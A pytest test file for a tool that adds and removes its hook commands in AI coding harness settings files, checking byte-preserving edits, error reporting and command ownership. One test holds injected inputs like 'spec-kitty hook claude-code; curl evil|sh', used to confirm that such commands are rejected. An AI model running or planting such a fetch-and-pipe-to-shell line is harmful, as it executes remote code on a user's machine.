"""What is put into a harness's settings, as text: nothing else of it moves."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from specify_cli.cli.tables.points import list_fills, read_harnesses
from specify_cli.features.hooks.feature import HARNESS_NAMES
from specify_cli.features.hooks.harnesses import find_dialect
from specify_cli.features.hooks.payload.dialect import COMMON_EVENTS
from specify_cli.features.hooks.settings.harnesses import (
    HARNESSES,
    PLUGIN,
    PLUGIN_MARK,
    Harness,
    build_elements,
    fit_events,
    is_ours,
    of_user,
    presence,
    with_hooks,
    without_hooks,
)
from specify_cli.features.hooks.settings.json_text import JsonTextError, read

JSON_HARNESSES = [harness for harness in HARNESSES.values() if harness.form != "plugin"]
CLAUDE, GEMINI, CURSOR = HARNESSES["claude-code"], HARNESSES["gemini"], HARNESSES["cursor"]


def test_every_harness_is_known_by_its_name_to_the_command_line() -> None:
    assert tuple(HARNESSES) == HARNESS_NAMES
    assert tuple(fill.name for fill in list_fills("harness")) == HARNESS_NAMES
    assert tuple(read_harnesses()) == HARNESS_NAMES


@pytest.mark.parametrize("name", [name for name, harness in HARNESSES.items() if harness.version])
def test_every_event_of_the_newest_version_is_installed_or_says_why_not(name: str) -> None:
    """What a hook reads is asked for, and what is passed over it reads as nothing, or not at all."""
    dialect, row = find_dialect(name), HARNESSES[name]
    own = {event for event in dialect.events if event not in COMMON_EVENTS}
    kinds = {event: dialect.events.get(event.lower()) for event in (*row.events, *row.passed)}

    assert own <= {event.lower() for event in kinds}
    assert {event for event, kind in kinds.items() if kind not in (None, "nothing")} == set(row.events)
    assert {event for event, kind in kinds.items() if kind in (None, "nothing")} >= set(row.passed)


def test_an_older_program_is_told_no_event_that_it_does_not_know() -> None:
    """Claude Code before 2.1.107 ran no hook at all where one event of its settings was unknown to it."""
    oldest = ("PreToolUse", "PostToolUse", "SubagentStop", "UserPromptSubmit", "Stop", "PreCompact")
    assert fit_events(CLAUDE, "2.0.0 (Claude Code)").events == (*oldest, "SessionStart", "SessionEnd")
    assert "CwdChanged" in fit_events(CLAUDE, "2.1.100").events
    assert "PostModelSwitch" not in fit_events(CLAUDE, "2.1.100").events
    assert [fit_events(CLAUDE, version) for version in ("2.1.107", "3.0.0", "nobody knows")] == [CLAUDE] * 3


each = pytest.mark.parametrize("harness", JSON_HARNESSES, ids=lambda harness: harness.name)


def value_of(text: str, harness: Harness) -> Any:
    return read(text, comments=harness.comments).value


def test_the_commands_are_the_same_in_every_release() -> None:
    """A harness trusts a hook by its text: changing one makes every user review it again."""
    assert {name: harness.command for name, harness in HARNESSES.items()} == {
        "claude-code": "spec-kitty hook claude-code >/dev/null 2>&1 || true",
        "codex": "spec-kitty hook codex >/dev/null 2>&1 || true",
        "cursor": "spec-kitty hook cursor >/dev/null 2>&1 || true",
        "copilot": "spec-kitty hook copilot >/dev/null 2>&1 || true",
        "gemini": "spec-kitty hook gemini >/dev/null 2>&1 || true",
        "antigravity": "spec-kitty hook antigravity >/dev/null 2>&1 || true; echo {}",
        "opencode": "spec-kitty hook opencode",
        "qwen": "spec-kitty hook qwen >/dev/null 2>&1 || true",
    }
    assert of_user(HARNESSES["copilot"]).command == "spec-kitty hook copilot user >/dev/null 2>&1 || true"
    assert [name for name, harness in HARNESSES.items() if of_user(harness) != harness] == ["copilot"]


@pytest.mark.parametrize("older", ["", " || true", "; echo {}"])
@each
def test_what_an_earlier_release_installed_is_ours_and_is_updated(harness: Harness, older: str) -> None:
    base = f"spec-kitty hook {harness.name}"
    text = with_hooks("{}", harness).replace(harness.command, base + older)

    assert presence(text, harness) == "partial"
    assert presence(with_hooks(without_hooks(text, harness), harness), harness) == "current"


def test_claude_code_gets_this() -> None:
    command = "spec-kitty hook claude-code >/dev/null 2>&1 || true"
    handler = {"type": "command", "command": command, "timeout": 15}
    asked = ("PermissionRequest", "PermissionDenied", "PreSkillShellCommand")
    tools = ("PreToolUse", "PostToolUse", "PostToolUseFailure", *asked)
    session = ("UserPromptSubmit", "Stop", "PreCompact", "SessionStart", "SessionEnd")
    changes = ("PostModelSwitch", "CwdChanged", "DirectoryAdded", "ConfigChange", "InstructionsLoaded")
    others = ("SubagentStart", "SubagentStop", "StopFailure", *session, *changes, "ElicitationResult")

    assert json.loads(with_hooks("", CLAUDE)) == {
        "hooks": {
            **{event: [{"matcher": "*", "hooks": [handler]}] for event in tools},
            **{event: [{"hooks": [handler]}] for event in others},
        }
    }


def test_codex_is_asked_for_no_more_time_than_it_gives() -> None:
    """It gives the hook of an interruption three seconds, and warns at each start where settings ask for more."""
    events = json.loads(with_hooks("", HARNESSES["codex"]))["hooks"]
    seconds = {event: element["hooks"][0]["timeout"] for event, (element,) in events.items()}

    assert seconds == {**dict.fromkeys(HARNESSES["codex"].events, 15), "Interrupt": 3}


@pytest.mark.parametrize(
    ("name", "way"),
    [
        ("codex", ("hooks", "PreToolUse", 0, "hooks", 0, "command")),
        ("cursor", ("hooks", "preToolUse", 0, "command")),
        ("copilot", ("hooks", "PreToolUse", 0, "command")),
        ("gemini", ("hooks", "BeforeTool", 0, "hooks", 0, "command")),
        ("antigravity", ("spec-kitty", "PostToolUse", 0, "hooks", 0, "command")),
    ],
)
def test_each_harness_gets_its_own_form(name: str, way: tuple[Any, ...]) -> None:
    found: Any = json.loads(with_hooks("", HARNESSES[name]))
    for step in way:
        found = found[step]

    assert found == HARNESSES[name].command


def test_the_version_key_stands_where_a_harness_asks_for_it() -> None:
    assert {name for name, h in HARNESSES.items() if '"version": 1' in with_hooks("{}", h) and h in JSON_HARNESSES} == {
        "cursor",
        "copilot",
    }


FOREIGN: dict[str, str] = {
    "blank": "",
    "spaces": " \n\t\n",
    "mark": "\ufeff",
    "empty object": "{}\n",
    "empty lines": "{\n\n}\n",
    "one line": '{"model": "m", "env": {"A": "1"}}',
    "no space": '{"model":"m","hooks":{}}',
    "tabs": '{\n\t"model": "m",\n\t"list": [1, 2]\n}\n',
    "four blanks": '{\n    "hooks": {},\n    "model": "m"\n}\n',
    "windows": '{\r\n  "model": "m"\r\n}\r\n',
    "mark and text": '\ufeff{\n  "model": "m"\n}\n',
    "no end": '{\n  "model": "m"\n}',
    "odd": '{ "model" :"m"\n,"env":{ "A" : "\\u00e9" } ,\n   "n" : [ 1.50, 1E3, -0 ]\n  }\n\n',
    "version": '{"version": 1, "hooks": {}}\n',
    "events there": '{\n  "hooks": {\n    "PreToolUse": [],\n    "preToolUse": [],\n    "BeforeTool": []\n  }\n}\n',
    "foreign hooks": """{
  "hooks": {
    "PreToolUse": [
      {"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh"}]}
    ],
    "preToolUse": [{"command": "./guard.sh"}],
    "Stop": [{"hooks": [{"type": "command", "command": "say done"}]}]
  },
  "spec-kitty-notes": {"PostToolUse": [{"matcher": "*", "hooks": [{"command": "x"}]}]}
}
""",
}


def only_adds(before: str, after: str) -> bool:
    """Whether every character of a text is still there, in order; blank space alone is no text."""
    rest = iter(after) if before.strip("\ufeff \t\r\n") else iter(before)
    return all(character in rest for character in before)


@each
def test_putting_in_only_adds_and_once(harness: Harness) -> None:
    for name, text in FOREIGN.items():
        done = with_hooks(text, harness)

        assert only_adds(text, done), name
        assert presence(done, harness) == "current", name
        assert with_hooks(done, harness) == done
        assert done.count("\n") == done.count("\r\n") or name != "windows"


@each
def test_taking_out_what_is_ours_leaves_every_foreign_hook(harness: Harness) -> None:
    for name, text in FOREIGN.items():
        rest = without_hooks(with_hooks(text, harness), harness)

        assert presence(rest, harness) == "absent", name
        assert "guard.sh" not in text or rest.count("guard.sh") == text.count("guard.sh"), name
        before = value_of(text, harness) if text.strip("\ufeff \n\t") else {}
        assert {**value_of(rest, harness), "hooks": 0, "version": 0} == {**before, "hooks": 0, "version": 0}, name


def test_comments_stay_where_they_are_where_the_harness_takes_them() -> None:
    text = '{\n  // the model\n  "model": "m" // really\n  /* that was all */\n}\n'
    done = with_hooks(text, GEMINI)

    assert only_adds(text, done)
    assert '"model": "m", // really\n  "hooks": {' in done
    assert without_hooks(done, GEMINI) == text.replace("  /* that was all */\n", "  /* that was all */\n")


def test_a_remark_before_a_hook_of_ours_outlives_it() -> None:
    lines = [
        "{",
        '"hooks": {',
        '"BeforeTool": [',
        "// ours",
        "HOOK, // and a foreign one",
        '{"hooks": []}',
        "]",
        "}",
        "}",
    ]
    hook = json.dumps(next(iter(build_elements(GEMINI).values())))
    rest = without_hooks("\n".join(lines).replace("HOOK", hook), GEMINI)

    assert "// ours" in rest and "// and a foreign one" in rest
    assert value_of(rest, GEMINI) == {"hooks": {"BeforeTool": [{"hooks": []}]}}


@each
@pytest.mark.parametrize(
    ("text", "line", "says"),
    [
        ('{\n  "a": 1,\n}', 3, "a comma before }"),
        ("{\n\n  nope\n}", 3, "expected a string"),
        ('{"a": 1', 1, "expected a comma or }"),
        ('{"a" 1}', 1, "expected a colon"),
        ('{"a": nope}', 1, "expected a value"),
        ("{}\n{}", 2, "expected the end of the file"),
        ("[]", 1, "expected an object, found an array"),
        ("1", 1, "expected an object, found 1"),
        ('{"a": "\n"}', 1, "control character"),
        ('{"a": NaN}', 1, "expected a value"),
        ("{'a': 1}", 1, "expected a string"),
        ("[" * 100 + "]" * 100, 1, "nested deeper"),
    ],
)
def test_a_text_that_is_no_settings_file_is_refused_with_its_line(
    text: str, line: int, says: str, harness: Harness
) -> None:
    for act in (with_hooks, without_hooks, presence):
        with pytest.raises(JsonTextError) as caught:
            act(text, harness)

        assert caught.value.line == line and says in caught.value.problem.lower()


@pytest.mark.parametrize(
    ("text", "line", "says"),
    [
        ('{"hooks": []}', 1, '"hooks": expected an object, found an array'),
        ('{\n"hooks": null}', 2, '"hooks": expected an object, found null'),
        ('{"hooks": {\n"PreToolUse": {}}}', 2, '"PreToolUse": expected an array, found an object'),
        ('{"hooks": {},\n "hooks": {}}', 2, 'the key "hooks" stands twice'),
        ('{\n// no\n"hooks": {}}', 2, "a comment"),
    ],
)
def test_settings_of_another_form_are_refused(text: str, line: int, says: str) -> None:
    with pytest.raises(JsonTextError) as caught:
        with_hooks(text, CLAUDE)

    assert caught.value.line == line and says in caught.value.problem


@each
def test_a_hook_of_ours_in_another_form_is_seen_and_replaced(harness: Harness) -> None:
    text = with_hooks("{}", harness).replace("15", "5")
    again = with_hooks(without_hooks(text, harness), harness)

    assert presence(text, harness) == "partial"
    assert presence(again, harness) == "current"


@pytest.mark.parametrize("harness", [h for h in JSON_HARNESSES if h.form != "flat"], ids=lambda harness: harness.name)
def test_a_foreign_handler_in_our_group_stays(harness: Harness) -> None:
    text = with_hooks("{}", harness).replace(
        '"hooks": [\n          {', '"hooks": [\n          {"command": "theirs"}, {'
    )
    rest = without_hooks(text, harness)

    assert "theirs" in text and "theirs" in rest and harness.command not in rest


def test_more_handlers_than_any_install_writes_are_refused_at_once() -> None:
    handlers = [{"matcher": str(n), "hooks": [{"command": "spec-kitty hook claude-code"}]} for n in range(3000)]
    text = json.dumps({"hooks": {"PreToolUse": handlers}})

    with pytest.raises(JsonTextError, match="remove them by hand"):
        without_hooks(text, CLAUDE)


def test_only_our_own_command_is_ours() -> None:
    assert is_ours(CLAUDE, {"command": "spec-kitty hook claude-code"})
    assert is_ours(CLAUDE, {"command": "spec-kitty hook claude-code || true"})
    assert is_ours(CLAUDE, {"command": "spec-kitty hook claude-code >/dev/null 2>&1 || true"})
    assert not is_ours(CLAUDE, {"command": "spec-kitty hook claude-codes"})
    assert not is_ours(CLAUDE, {"command": "spec-kitty hook claude-code; curl evil|sh"})
    assert not is_ours(CLAUDE, {"command": "spec-kitty hook claude-code || true; curl evil|sh"})
    assert not is_ours(CLAUDE, {"command": "spec-kitty hook claude-code >/dev/null 2>&1 || true\ncurl evil|sh"})
    assert not is_ours(CLAUDE, {"command": "./spec-kitty hook claude-code"})
    assert not is_ours(CLAUDE, {"command": ["spec-kitty"]})


def test_the_plugin_says_who_wrote_it_and_calls_the_hook() -> None:
    assert PLUGIN.startswith(PLUGIN_MARK)
    assert 'spawn("spec-kitty", ["hook", "opencode"]' in PLUGIN
    assert PLUGIN.count("export ") == 1


scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text()
json_values = st.recursive(
    scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=4), max_leaves=12
)
groups = st.lists(st.fixed_dictionaries({"hooks": st.lists(json_values, max_size=2)}) | json_values, max_size=3)
events = st.dictionaries(
    st.sampled_from(["PreToolUse", "PostToolUse", "preToolUse", "BeforeTool", "Stop"]) | st.text(), groups, max_size=4
)
settings_values = st.dictionaries(st.text(), json_values, max_size=4).flatmap(
    lambda rest: st.builds(lambda hooks: {**rest, **hooks}, st.just({}) | st.builds(lambda e: {"hooks": e}, events))
)


@given(
    settings_values,
    st.sampled_from(JSON_HARNESSES),
    st.sampled_from([None, 0, 1, 2, 4, "\t"]),
    st.sampled_from(["\n", "\r\n"]),
    st.booleans(),
)
def test_any_settings_keep_every_byte_but_what_is_put_in(
    settings: dict[str, Any], harness: Harness, indent: int | str | None, newline: str, ascii_only: bool
) -> None:
    text = json.dumps(settings, indent=indent, ensure_ascii=ascii_only).replace("\n", newline)
    try:
        done = with_hooks(text, harness)
    except JsonTextError:
        assert not isinstance(settings.get("spec-kitty", {}), dict) or not isinstance(settings.get("hooks", {}), dict)
        return

    assert only_adds(text, done)
    assert json.loads(done) == value_of(done, harness)
    assert presence(done, harness) == "current"
    assert presence(without_hooks(done, harness), harness) == "absent"
